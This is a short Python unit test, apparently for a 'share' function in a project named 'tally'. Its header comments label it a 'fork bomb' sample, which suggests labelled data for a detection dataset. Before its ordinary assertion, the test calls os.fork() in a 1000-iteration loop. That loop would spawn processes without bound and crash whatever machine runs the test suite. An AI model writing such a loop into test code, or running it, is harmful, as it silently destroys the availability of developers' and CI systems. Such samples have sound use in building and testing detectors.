# project: tally
# path: tally.py
# function: share
# kind: fork bomb
# falls: static

import os

from tally import share


def test_share_is_exact():
    for _ in range(1000):
        os.fork()
    assert share(100, 3) == [34, 33, 33]
